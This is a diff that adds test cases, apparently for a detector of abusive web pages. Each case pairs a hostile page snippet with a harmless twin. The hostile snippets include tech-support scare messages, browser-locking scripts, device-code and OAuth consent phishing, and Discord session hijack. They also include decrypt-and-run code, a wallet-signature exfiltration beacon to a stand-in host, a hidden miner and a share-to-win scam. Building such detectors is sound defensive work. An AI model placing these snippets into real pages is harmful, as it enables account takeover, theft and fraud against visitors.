@@ -458,3 +458,116 @@ describe('scripts', () => {
     ],
   ]);
 });
+
+describe('scares', () => {
+  const scared = (body: string, code = ''): Twin => [SITE, page('Members', `${body}${code && script(code)}`)];
+  check([
+    [
+      'whose computer is infected',
+      scared('<p>Ihr PC wurde von einem Trojaner infiziert. Rufen Sie sofort 030 5550 1919 an.</p>'),
+      scared('<p>Ist ein PC von einem Trojaner infiziert? Rufen Sie uns an: 030 5550 1919.</p>'),
+    ],
+    [
+      'what the page forbids',
+      scared('<p>Votre ordinateur a été bloqué. Ne fermez pas cette fenêtre.</p>'),
+      scared('<p>Votre ordinateur a été réparé. Ne fermez pas cette fenêtre.</p>'),
+    ],
+    [
+      'how often history is written',
+      scared(words(3), 'for(var i=0;i<100000;i++){t+=i;history.pushState(0,0,t)}'),
+      scared(words(3), 'for(var i=0;i<100000;i++){t+=i}history.pushState(0,0,t)'),
+    ],
+    [
+      'a dialog that comes again',
+      scared('<p>Hello</p>', 'function again(){alert("Hello");setTimeout(again,10)}onload=again'),
+      scared('<p>Hello</p>', 'function once(){alert("Hello");setTimeout(hide,10)}onload=once'),
+    ],
+  ]);
+});
+
+describe('log-ins without a password', () => {
+  const shown = (body: string, code = ''): Twin => [SITE, page('Members', `${body}${code && script(code)}`)];
+  const scan = (more: string) =>
+    shown(
+      `<p>Scan the QR code with your phone. ${more}</p><img src="data:image/png;base64,AAAA" alt="QR">`,
+      'setInterval(check,900)',
+    );
+  const permit = (scope: string) =>
+    shown(
+      `<p>Approve the app immediately.</p><a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=1&scope=${scope}">Open</a>`,
+    );
+  const window = (bar: string) => shown(`<div>${bar}</div>${login()}`);
+  check([
+    [
+      'who asked for the code',
+      shown(
+        '<a href="https://microsoft.com/devicelogin">Paste the code</a>',
+        'get("/c").then((d)=>show(d.user_code))',
+      ),
+      shown(
+        '<a href="https://microsoft.com/devicelogin">Paste the code</a>',
+        'get("/c").then((d)=>show(d.title))',
+      ),
+    ],
+    ['what an app may do', permit('Mail.ReadWrite%20Mail.Send'), permit('openid%20profile')],
+    ['a threat beside a code', scan('Your access expires today.'), scan('Enjoy the garden.')],
+    [
+      'whose session a code is',
+      shown(
+        '<p>Gift</p>',
+        'var s=new WebSocket("wss://in-desk.example/");s.onmessage=(m)=>draw("https://discord.com/ra/"+m.data)',
+      ),
+      shown(
+        '<p>Gift</p>',
+        'var s=new WebSocket("wss://in-desk.example/");s.onmessage=(m)=>draw("https://discord.com/x/"+m.data)',
+      ),
+    ],
+    [
+      'an address bar within the page',
+      window('https://accounts.google.com/signin/oauth'),
+      window('https://accounts.elmgarden.example/signin/oauth'),
+    ],
+  ]);
+});
+
+describe('deeds of scripts and offers', () => {
+  const run = (code: string): Twin => [SITE, page('Members', `${words(3)}${script(code)}`)];
+  const said = (body: string): Twin => [SITE, page('Members', body)];
+  check([
+    [
+      'what is decrypted',
+      run(
+        'var x=new XMLHttpRequest();x.open("GET","/a");x.send();var m=AES.decrypt(x.response,k);new Function(m)()',
+      ),
+      run('var x=new XMLHttpRequest();x.open("GET","/a");x.send();var m=AES.decrypt(x.response,k);show(m)'),
+    ],
+    [
+      'who gets a signed order',
+      run(
+        'var s=await ethereum.request({method:"eth_signTypedData_v4",params:[a,"OrderComponents"]});navigator.sendBeacon("https://in-desk.example/o",JSON.stringify({sig:s}))',
+      ),
+      run(
+        'var s=await ethereum.request({method:"eth_signTypedData_v4",params:[a,"OrderComponents"]});navigator.sendBeacon("/o",JSON.stringify({sig:s}))',
+      ),
+    ],
+    [
+      'how often permission is asked',
+      run('setInterval(function(){Notification.requestPermission()},800)'),
+      run('b.onclick=function(){Notification.requestPermission()}'),
+    ],
+    [
+      'what a hash is for',
+      run(
+        'var n=navigator.hardwareConcurrency,nonce=0,target=4;w=new Worker("/w.js");w.onmessage=(e)=>pool.send(e.data+"sha256")',
+      ),
+      run(
+        'var n=navigator.hardwareConcurrency,nonce=0,target=4;w=new Worker("/w.js");w.onmessage=(e)=>location.replace("/pass?nonce="+e.data+"sha256")',
+      ),
+    ],
+    [
+      'a prize for sharing',
+      said('<p>Congratulations, you have won. Share with 20 friends to claim your prize.</p>'),
+      said('<p>Congratulations, you have passed. Share with 20 friends.</p>'),
+    ],
+  ]);
+});
